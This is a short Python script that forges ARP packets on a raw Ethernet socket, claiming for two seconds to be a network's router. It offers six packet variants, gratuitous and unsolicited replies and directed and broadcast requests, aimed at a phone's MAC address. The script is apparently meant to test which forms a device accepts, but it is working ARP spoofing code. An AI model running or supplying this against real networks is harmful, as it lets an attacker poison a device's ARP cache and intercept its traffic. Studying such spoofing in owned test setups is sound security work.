#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""forge_arp.py FORM ROUTER PHONE PHONE-MAC: claims for two seconds to be the router (RFC 826)."""

import socket
import struct
import sys
import time

EVERYBODY = b"\xff" * 6
NOBODY = bytes(6)
REQUEST, REPLY = 1, 2

form, router, phone = sys.argv[1], socket.inet_aton(sys.argv[2]), socket.inet_aton(sys.argv[3])
mac = bytes.fromhex(sys.argv[4].replace(":", ""))
FORMS = {  # operation, target's address and MAC in the packet, destination of the frame
    "gratuitous-request": (REQUEST, router, NOBODY, EVERYBODY),
    "gratuitous-reply": (REPLY, router, EVERYBODY, EVERYBODY),
    "gratuitous-reply-to-phone": (REPLY, router, EVERYBODY, mac),
    "unsolicited-reply": (REPLY, phone, mac, mac),
    "request-to-phone": (REQUEST, phone, NOBODY, mac),
    "broadcast-request": (REQUEST, phone, NOBODY, EVERYBODY),
}
operation, target, target_mac, destination = FORMS[form]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0x0806))
own = wire.getsockname()[4]
packet = struct.pack("!6s6sHHHBBH6s4s6s4s", destination, own, 0x0806, 1, 0x0800, 6, 4, operation,
                     own, router, target_mac, target)
for _ in range(20):
    wire.send(packet)
    time.sleep(0.1)
